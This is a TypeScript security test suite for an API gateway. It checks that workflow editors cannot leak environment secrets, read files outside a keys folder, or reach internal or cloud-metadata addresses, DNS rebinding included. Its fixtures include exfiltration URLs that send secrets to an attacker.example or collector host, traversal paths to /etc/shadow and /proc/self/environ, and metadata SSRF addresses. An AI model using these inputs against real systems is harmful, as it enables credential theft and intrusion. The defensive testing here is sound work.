/**
 * An editor (admin API role `editor`) attacking the gateway through workflow documents: reading
 * environment variables back (problem messages, simulate sending them to a host the editor
 * controls), reading files outside the data directory's keys folder, and reaching internal
 * addresses (a stand-in for a cloud metadata service on another loopback port) through simulate,
 * publish and traffic, including by DNS rebinding. Nothing an editor reads back may carry a
 * resolved value, a file's content or an internal answer; the gateway's logs neither.
 */
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import type { LookupAddress } from 'node:dns';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exportJWK, generateKeyPair } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { validateWorkflow } from '../../shared/compile/index.ts';
import { errorCatalogSchema } from '../../shared/schema/index.ts';
import { startTestGateway, REPO, type TestGateway } from '../helpers/gateway.ts';
import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
import { ADMIN_TOKENS, adminOf, PEOPLE, startAdminGateway, type Admin } from '../engine/admin/support.ts';
import { adversarialGroup } from './support.ts';

const group = adversarialGroup('control-plane');

const marker = (what: string) => `${what}-${randomBytes(12).toString('hex')}`;
/** What the gateway process has in its environment and must never hand to an editor. */
const DB_PASSWORD = marker('db-password'); // longer than 32 bytes: a usable HMAC secret
const REDIS_SECRET = marker('redis-secret');
const BROKEN_SECRET = marker('broken');
const METADATA_SECRET = marker('aws-secret-access-key');
const FILE_SECRET = marker('file-secret');
const ADMIN_SECRETS = Object.values(PEOPLE).map((p) => p.token);
const SECRETS = [DB_PASSWORD, REDIS_SECRET, BROKEN_SECRET, METADATA_SECRET, FILE_SECRET, ...ADMIN_SECRETS];

/** The first bytes of this process's environment file (the gateway runs in this process). */
const ENVIRON_HEAD = readFileSync('/proc/self/environ', 'latin1').slice(0, 12);

/** Everything an editor read back from the gateway, and must not contain a secret. */
const answers: string[] = [];

function expectNoSecret(text: string): void {
  for (const secret of SECRETS) expect(text, 'a secret was echoed').not.toContain(secret);
}

let upstream: TestUpstream;
/** Stand-in for a cloud metadata service: another loopback port, answering credentials. */
let metadata: TestUpstream;
/** A server the editor controls, where a leaked value would arrive. */
let collector: TestUpstream;
let gw: TestGateway;
let admin: Admin;
let outside: string;
const portOf = (url: string) => Number(new URL(url).port);

beforeAll(async () => {
  upstream = await startUpstream();
  metadata = await startUpstream((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ AccessKeyId: 'AKIA', SecretAccessKey: METADATA_SECRET })));
  collector = await startUpstream();
  outside = mkdtempSync(join(tmpdir(), 'sluice-outside-'));
  writeFileSync(join(outside, 'secret.txt'), `${FILE_SECRET}\n`);
  const { publicKey } = await generateKeyPair('RS256', { extractable: true });
  writeFileSync(join(outside, 'jwks.json'), JSON.stringify({ keys: [{ ...(await exportJWK(publicKey)), kid: 'outside', alg: 'RS256' }] }));
  gw = await startAdminGateway({
    // As in production, the gateway's own settings are in the same environment workflows could name.
    env: {
      SLUICE_ADMIN_TOKENS: ADMIN_TOKENS,
      DATABASE_PASSWORD: DB_PASSWORD,
      REDIS_URL: `redis://:${REDIS_SECRET}@127.0.0.1:1/0`,
      SLUICE_UPSTREAM_ORDERS: upstream.url,
      SLUICE_UPSTREAM_BROKEN: `not a url ${BROKEN_SECRET}`,
    },
    // The defaults for workflow variables; outbound calls only to the test upstream's exact address and port.
    settings: { SLUICE_WORKFLOW_ENV: 'SLUICE_UPSTREAM_*,SLUICE_DEMO_UPSTREAM', SLUICE_EGRESS_ALLOW: `127.0.0.1:${portOf(upstream.url)}` },
  });
  admin = adminOf(gw.url);
  // Files in the data directory, outside its keys folder, and in it.
  writeFileSync(join(gw.dataDir, 'notes.json'), FILE_SECRET);
  mkdirSync(join(gw.dataDir, 'keys'), { recursive: true });
  writeFileSync(join(gw.dataDir, 'keys', 'broken.json'), `${FILE_SECRET} is not JSON`);
  writeFileSync(join(gw.dataDir, 'broken.json'), `${FILE_SECRET} is not JSON`); // where the old layout looked
  writeFileSync(join(gw.dataDir, 'keys', 'not-a-key-set.json'), JSON.stringify({ secret: FILE_SECRET }));
  writeFileSync(join(gw.dataDir, 'not-a-key-set.json'), JSON.stringify({ secret: FILE_SECRET }));
  symlinkSync(join(outside, 'jwks.json'), join(gw.dataDir, 'keys', 'link.json'));
  symlinkSync(join(outside, 'jwks.json'), join(gw.dataDir, 'link.json'));
  writeFileSync(join(gw.dataDir, 'keys', 'good.json'), readFileSync(join(outside, 'jwks.json')));
  writeFileSync(join(gw.dataDir, 'good.json'), readFileSync(join(outside, 'jwks.json')));
});

afterAll(async () => {
  // nothing of any secret in what the editor read, nor in anything the gateway logged
  for (const text of answers) expectNoSecret(text);
  expectNoSecret(JSON.stringify(gw?.logs ?? []));
  // the internal service and the editor's server were never called
  expect(metadata?.received ?? []).toEqual([]);
  expect(collector?.received ?? []).toEqual([]);
  await gw?.close();
  await Promise.all([upstream?.close(), metadata?.close(), collector?.close()]);
  rmSync(outside, { recursive: true, force: true });
});

const document = (id: string, nodes: Array<{ id: string; kind: string; config: Record<string, unknown> }>, edges: Array<{ from: string; port: string; to: string }> = []) => ({
  id,
  name: id,
  route: { methods: ['GET'], path: `/${id}` },
  nodes,
  edges,
});
const proxyTo = (id: string, url: string) => document(id, [{ id: 'call', kind: 'proxy', config: { url } }]);
const verifyWith = (id: string, config: Record<string, unknown>) =>
  document(id, [{ id: 'verify', kind: 'jwt-verify', config }, { id: 'answer', kind: 'respond', config: { status: 200, body: { ok: true } } }], [{ from: 'verify', port: 'ok', to: 'answer' }]);

/** Validates a document as the editor; the answer is kept for the final no-secret check. */
async function validateAsEditor(doc: { id: string }) {
  const answer = await admin('editor', 'POST', `/workflows/${doc.id}/validate`, { document: doc });
  answers.push(JSON.stringify(answer.body));
  expect(answer.status).toBe(200);
  return answer.body as { ok: boolean; problems: Array<{ code: string; node?: string; field?: string; message: string }> };
}

async function simulateAsEditor(doc: unknown, path: string) {
  const answer = await admin('editor', 'POST', '/simulate', { document: doc, request: { method: 'GET', path } });
  answers.push(JSON.stringify(answer.body));
  expect(answer.status).toBe(200);
  return answer.body as { ok: boolean; problems?: Array<{ node?: string; field?: string; message: string }>; response?: { status: number; body: unknown } };
}

/** Asserts one refusal naming the node and field, its message matching `words`, no secret in it. */
function expectRefused(result: { ok: boolean; problems?: Array<{ node?: string; field?: string; message: string }> }, node: string, field: string, words: RegExp) {
  group.counted();
  expect(result.ok).toBe(false);
  const problem = result.problems!.find((p) => p.node === node && p.field === field);
  expect(problem, JSON.stringify(result.problems)).toBeDefined();
  expect(problem!.message).toMatch(words);
  expectNoSecret(JSON.stringify(result));
}

describe('defect 1: workflow documents read only allow-listed environment variables, and never echo a value', () => {
  it.each([
    ['every admin token', '${SLUICE_ADMIN_TOKENS}', /SLUICE_ADMIN_TOKENS.*not allowed|not allowed.*SLUICE_ADMIN_TOKENS/],
    ['a database password', '${DATABASE_PASSWORD}/orders', /DATABASE_PASSWORD.*not allowed|not allowed.*DATABASE_PASSWORD/],
    ['the Redis URL with its password', '${REDIS_URL}', /REDIS_URL.*not allowed|not allowed.*REDIS_URL/],
    // allowed, but its value is no URL: the problem quotes the template, never the resolved text
    ['an allowed variable whose value is no URL', '${SLUICE_UPSTREAM_BROKEN}/x', /\$\{SLUICE_UPSTREAM_BROKEN\}/],
  ])('validate: a proxy url reading %s is refused, naming the variable, never its value', async (_what, url, words) => {
    expectRefused(await validateAsEditor(proxyTo('env-read', url)), 'call', 'config.url', words);
  });

  it('publish: the same document is refused for the publisher, with no value in the answer', async () => {
    const created = await admin('editor', 'POST', '/workflows', { document: proxyTo('env-publish', '${SLUICE_ADMIN_TOKENS}') });
    expect(created.status).toBe(201);
    const published = await admin('publisher', 'POST', '/workflows/env-publish/publish');
    answers.push(JSON.stringify(published.body));
    expect(published.status).toBe(422);
    expect(JSON.stringify(published.body)).toContain('SLUICE_ADMIN_TOKENS');
    group.counted();
  });

  it('a token read from an answer cannot publish: no answer carried one', async () => {
    // The attack: read the tokens from a problem message, then publish with the publisher's token.
    const leaked = answers.join('\n').match(/publisher-token-[0-9a-f]+/);
    expect(leaked).toBeNull();
    group.counted();
  });

  it.each([
    ['in the path, after a host the editor controls', () => `${collector.url}/collect/\${DATABASE_PASSWORD}`],
    ['in the query', () => `${collector.url}/collect?p=\${SLUICE_UPSTREAM_ORDERS}`],
    ['as user info before the editor\'s host', () => `\${SLUICE_UPSTREAM_ORDERS}@127.0.0.1:${portOf(collector.url)}/`],
    ['glued to the editor\'s host name', () => `\${SLUICE_UPSTREAM_ORDERS}.attacker.example/`],
  ])('simulate: a variable %s is refused before any call (the editor\'s server gets nothing)', async (_where, url) => {
    const result = await simulateAsEditor(proxyTo('env-send', url()), '/env-send');
    group.counted();
    expect(result.ok).toBe(false);
    expect(collector.received).toEqual([]);
  });

  it('an HMAC secretEnv must be on the secrets allow-list (SLUICE_SECRET_ENV), not any variable', async () => {
    expectRefused(await validateAsEditor(verifyWith('hmac-env', { secretEnv: 'DATABASE_PASSWORD', algorithms: ['HS256'] })), 'verify', 'config.secretEnv', /DATABASE_PASSWORD.*not allowed|not allowed.*DATABASE_PASSWORD/);
  });

  it('an allow-listed upstream variable still works: simulate reaches the upstream it names', async () => {
    const result = await simulateAsEditor(proxyTo('env-ok', '${SLUICE_UPSTREAM_ORDERS}/base'), '/env-ok');
    expect(result.ok).toBe(true);
    expect(result.response!.status).toBe(200);
    expect(upstream.received.at(-1)!.url).toBe('/base/env-ok');
  });
});

describe('defect 2: files a workflow names resolve only inside $SLUICE_DATA/keys, and never echo content', () => {
  it.each([
    ['/etc/shadow', '/etc/shadow'],
    ['an absolute path outside the data directory', () => join(outside, 'secret.txt')],
    ['the process environment through ..', '../../../../proc/self/environ'],
    ['a file of the data directory outside keys/ through ..', '../notes.json'],
    ['a symbolic link in keys/ to a file outside', 'link.json'],
  ])('jwksFile %s is refused, naming the node and field', async (_what, file) => {
    const name = typeof file === 'function' ? file() : file;
    const result = await validateAsEditor(verifyWith('key-file', { jwksFile: name }));
    expectRefused(result, 'verify', 'config.jwksFile', /keys/);
    expect(JSON.stringify(result)).not.toContain(ENVIRON_HEAD);
    expect(JSON.stringify(result)).not.toMatch(/root:/);
  });

  it.each([
    ['a file that is not JSON', 'broken.json'],
    ['JSON that is not a key set', 'not-a-key-set.json'],
  ])('a keys/ file holding %s is "not a JSON Web Key Set", without a byte of it', async (_what, name) => {
    expectRefused(await validateAsEditor(verifyWith('key-file', { jwksFile: name })), 'verify', 'config.jwksFile', /not a JSON Web Key Set/);
  });

  it('a key set inside keys/ is read (relative to the keys folder)', async () => {
    expect(await validateAsEditor(verifyWith('key-file', { jwksFile: 'good.json' }))).toEqual({ ok: true, problems: [] });
  });
});

describe('defect 3: one egress policy for every outbound call, at publish and at connect time', () => {
  it.each([
    ['the metadata address', 'http://169.254.169.254/latest/meta-data/', /link-local|metadata/],
    ['the metadata address as IPv4-mapped IPv6', 'http://[::ffff:169.254.169.254]/', /link-local|metadata/],
    ['the metadata address as one number', 'http://2852039166/', /link-local|metadata/],
    ['a private address', 'http://10.1.2.3:8080/', /private/],
    ['another port of the allowed loopback address', () => `http://127.0.0.1:${portOf(metadata.url)}/`, /loopback/],
    ['a name that resolves to loopback', () => `http://localhost:${portOf(metadata.url)}/`, /loopback/],
  ])('validate: a proxy to %s is refused, naming the rule', async (_what, url, rule) => {
    expectRefused(await validateAsEditor(proxyTo('egress', typeof url === 'function' ? url() : url)), 'call', 'config.url', rule);
  });

  it('validate: a JWKS URL to the metadata address is refused', async () => {
    expectRefused(await validateAsEditor(verifyWith('egress-jwks', { jwksUri: 'http://169.254.169.254/jwks.json' })), 'verify', 'config.jwksUri', /link-local|metadata/);
  });

  it('validate: an OIDC issuer (keys by discovery) on the metadata address is refused', async () => {
    expectRefused(await validateAsEditor(verifyWith('egress-oidc', { issuer: 'http://169.254.169.254/latest' })), 'verify', 'config.issuer', /link-local|metadata/);
  });

  it('simulate: an OIDC issuer whose discovery document would be the stand-in metadata service is refused, and nothing is fetched', async () => {
    const result = await simulateAsEditor(verifyWith('ssrf-oidc', { issuers: [{ issuer: metadata.url }] }), '/ssrf-oidc');
    expectRefused(result, 'verify', 'config.issuers.0.issuer', /loopback/);
    expect(metadata.received).toEqual([]);
  });

  it('validate: an introspect node cannot send a gateway secret to a host the editor picks', async () => {
    const doc = document('egress-introspect', [{ id: 'check', kind: 'introspect', config: { endpoint: `${collector.url}/introspect`, clientId: 'gateway', clientSecretEnv: 'SLUICE_SECRET_ANY' } }, { id: 'answer', kind: 'respond', config: { status: 200, body: { ok: true } } }], [{ from: 'check', port: 'ok', to: 'answer' }]);
    expectRefused(await validateAsEditor(doc), 'check', 'config.endpoint', /SLUICE_CALLOUT_HOSTS/);
    expect(collector.received).toEqual([]);
  });

  it('simulate: a proxy to the stand-in metadata service gets no internal answer', async () => {
    const result = await simulateAsEditor(proxyTo('ssrf-sim', `${metadata.url}/latest/meta-data/iam`), '/ssrf-sim');
    expectRefused(result, 'call', 'config.url', /loopback/);
    expect(metadata.received).toEqual([]);
  });

  it('simulate: a JWKS URL to the stand-in metadata service is refused', async () => {
    const result = await simulateAsEditor(verifyWith('ssrf-jwks', { jwksUri: `${metadata.url}/jwks.json` }), '/ssrf-jwks');
    expectRefused(result, 'verify', 'config.jwksUri', /loopback/);
  });

  it('traffic: the publisher cannot publish it, and the route never calls the internal service', async () => {
    const created = await admin('editor', 'POST', '/workflows', { document: proxyTo('ssrf-traffic', `${metadata.url}/latest`) });
    expect(created.status).toBe(201);
    const published = await admin('publisher', 'POST', '/workflows/ssrf-traffic/publish');
    answers.push(JSON.stringify(published.body));
    expect(published.status).toBe(422);
    expect(JSON.stringify(published.body)).toMatch(/loopback/);
    const res = await gw.fetch('/ssrf-traffic');
    expect(res.status).toBe(404);
    await res.arrayBuffer();
    expect(metadata.received).toEqual([]);
    group.counted();
  });

  it('traffic: a workflow file naming the internal service (as from before the policy) is not served', async () => {
    await gw.putWorkflow(proxyTo('ssrf-file', `${metadata.url}/latest`));
    expect(gw.sluice.registry.active.has('ssrf-file')).toBe(false);
    const res = await gw.fetch('/ssrf-file');
    expect(res.status).toBe(404);
    await res.arrayBuffer();
    expect(metadata.received).toEqual([]);
    group.counted();
  });

  it('the allowed upstream is reached in simulate and in traffic', async () => {
    const doc = proxyTo('egress-ok', `${upstream.url}/allowed`);
    expect((await simulateAsEditor(doc, '/egress-ok')).response!.status).toBe(200);
    await gw.putWorkflow(doc);
    const res = await gw.fetch('/egress-ok');
    expect(res.status).toBe(200);
    await res.arrayBuffer();
  });
});

describe('a host name in SLUICE_EGRESS_ALLOW never opens a denied address', () => {
  let named: TestGateway;
  beforeAll(async () => {
    named = await startAdminGateway({ settings: { SLUICE_EGRESS_ALLOW: `localhost:${portOf(metadata.url)}` } });
  });
  afterAll(() => named?.close());

  it('localhost allowed by name still resolves to loopback, which is refused', async () => {
    const answer = await adminOf(named.url)('editor', 'POST', '/workflows/named/validate', { document: proxyTo('named', `http://localhost:${portOf(metadata.url)}/`) });
    answers.push(JSON.stringify(answer.body));
    expectRefused(answer.body as never, 'call', 'config.url', /loopback/);
    expect(metadata.received).toEqual([]);
  });
});

describe('DNS rebinding: the address is checked again when the connection is made', () => {
  // The attacker's DNS server is played by the lookup the policy resolves with: a name that
  // answered the allowed address while the workflow was checked answers the internal one when
  // the request connects. Everything else is real: compile, the proxy and JWKS runtimes, undici
  // pools, the allowed upstream on 127.0.0.1 and the internal service on 127.0.0.2, same port.
  let internal: TestUpstream;
  let answer = '127.0.0.1';
  const attackerDns = (_host: string, _options: unknown, callback: (error: Error | null, addresses: LookupAddress[]) => void) =>
    process.nextTick(callback, null, [{ address: answer, family: 4 }]);
  const catalog = errorCatalogSchema.parse(JSON.parse(readFileSync(join(REPO, 'examples', 'errors.json'), 'utf8')));

  beforeAll(async () => {
    const { createServer } = await import('node:http');
    const received: TestUpstream['received'] = [];
    const server = createServer((req, res) => {
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body: '' });
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ SecretAccessKey: METADATA_SECRET }));
    });
    await new Promise<void>((resolve) => server.listen(portOf(upstream.url), '127.0.0.2', resolve));
    internal = { url: `http://127.0.0.2:${portOf(upstream.url)}`, server, received, handle() {}, close: () => new Promise((resolve) => server.close(() => resolve())) };
  });
  afterAll(() => internal?.close());

  async function dependencies() {
    const { createEgressPolicy } = await import('../../engine/kinds/support/egress.ts');
    const { createMemoryRateLimitStore } = await import('../../engine/kinds/support/rate-limit-store.ts');
    const resources = new Map<string, unknown>();
    return {
      env: {},
      dataDir: gw.dataDir,
      rateLimits: createMemoryRateLimitStore(),
      shared: { get: <T,>(key: string, create: () => T) => (resources.has(key) ? (resources.get(key) as T) : (resources.set(key, create()).get(key) as T)) },
      egress: createEgressPolicy({ allow: `127.0.0.1:${portOf(upstream.url)}`, lookup: attackerDns as never }),
      close: async () => {
        for (const value of resources.values()) await (value as { close?: () => unknown }).close?.();
      },
    };
  }

  it('a proxy whose host passed the publish check, then resolves to an internal address, ends by its error port', async () => {
    const { compileWorkflow } = await import('../../engine/compile/compile.ts');
    const { walk } = await import('../../engine/compile/walk.ts');
    const { createSyntheticExchange } = await import('../../engine/gateway/exchange.ts');
    const deps = await dependencies();
    answer = '127.0.0.1';
    const doc = proxyTo('rebind', `http://rebind.attacker.example:${portOf(upstream.url)}/`);
    const validated = validateWorkflow(doc, { catalog });
    if (!validated.ok) throw new Error(JSON.stringify(validated.problems));
    const compiled = await compileWorkflow(validated.graph, 1, deps as never); // allowed at publish
    try {
      answer = '127.0.0.2'; // rebound
      const exchange = createSyntheticExchange({ method: 'GET', url: '/rebind', params: {}, headers: {} });
      const result = await walk(compiled, exchange, []);
      expect(result.final.meta).toMatchObject({ outcome: 'raise', error: 'upstream_unavailable', node: 'call', port: 'error' });
      expect(internal.received).toEqual([]);
      group.counted();
    } finally {
      compiled.close();
      await deps.close();
    }
  });

  it('a JWKS URL that rebinds to an internal address fails like an unreachable key server', async () => {
    const { compileWorkflow } = await import('../../engine/compile/compile.ts');
    const { walk } = await import('../../engine/compile/walk.ts');
    const { createSyntheticExchange } = await import('../../engine/gateway/exchange.ts');
    const deps = await dependencies();
    answer = '127.0.0.1';
    const doc = verifyWith('rebind-jwks', { jwksUri: `http://keys.attacker.example:${portOf(upstream.url)}/jwks.json` });
    const validated = validateWorkflow(doc, { catalog });
    if (!validated.ok) throw new Error(JSON.stringify(validated.problems));
    const compiled = await compileWorkflow(validated.graph, 1, deps as never);
    try {
      answer = '127.0.0.2';
      const token = 'eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.eyJzdWIiOiJ4In0.c2ln';
      const exchange = createSyntheticExchange({ method: 'GET', url: '/rebind-jwks', params: {}, headers: { authorization: `Bearer ${token}` } });
      const result = await walk(compiled, exchange, []);
      expect(result.final.meta).toMatchObject({ outcome: 'raise', error: 'keys_unavailable', node: 'verify', port: 'unavailable' });
      expect(internal.received).toEqual([]);
      group.counted();
    } finally {
      compiled.close();
      await deps.close();
    }
  });
});

const DEMO_AS_SECRET = 'demo-authorization-server-secret-4c1d';

describe('the embedded default allows exactly the demo upstream', () => {
  let demo: TestGateway;
  beforeAll(async () => {
    // no SLUICE_EGRESS_ALLOW at all: only what the demo itself adds
    demo = await startTestGateway({ demo: true, env: { SLUICE_SECRET_DEMO_AS: DEMO_AS_SECRET }, settings: { SLUICE_EGRESS_ALLOW: '' } });
  });
  afterAll(() => demo?.close());

  it('the examples call the demo upstream on loopback, and the startup log says it is allowed', async () => {
    const demoUrl = String(demo.logs.find((l) => l.msg === 'sluice listening')?.demoUpstream);
    const allowed = demo.logs.find((l) => typeof l.msg === 'string' && /egress/i.test(l.msg) && JSON.stringify(l).includes(new URL(demoUrl).host));
    expect(allowed, JSON.stringify(demo.logs.slice(0, 10))).toBeDefined();
    const token = await (await import('../../engine/demo/keys.ts')).signDemoToken(demo.dataDir, { sub: 'u', scopes: ['orders:read'], partner: 'acme' });
    const res = await demo.fetch('/api/orders', { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    await res.arrayBuffer();
  });

  it('the demo upstream echoes and is a callout host, yet no workflow can send it a gateway secret (SLUICE_SECRET_HOSTS binds none)', async () => {
    const demoUrl = String(demo.logs.find((l) => l.msg === 'sluice listening')?.demoUpstream);
    const doc = document('echo-introspect', [{ id: 'check', kind: 'introspect', config: { endpoint: `${demoUrl}/echo`, clientId: 'gateway', clientSecretEnv: 'SLUICE_SECRET_DEMO_AS' } }, { id: 'answer', kind: 'respond', config: { status: 200, body: { ok: true } } }], [{ from: 'check', port: 'ok', to: 'answer' }]);
    await demo.putWorkflow(doc);
    expect(demo.sluice.registry.active.has('echo-introspect')).toBe(false);
    const refusal = demo.logs.find((l) => l.workflow === 'echo-introspect' && typeof l.msg === 'string' && l.msg.startsWith('workflow refused'));
    expect(refusal?.problems).toEqual([expect.objectContaining({ node: 'check', field: 'config.endpoint', message: expect.stringMatching(/SLUICE_SECRET_DEMO_AS may not be sent anywhere/) })]);
    expect(JSON.stringify(demo.logs)).not.toContain(DEMO_AS_SECRET);
  });
});
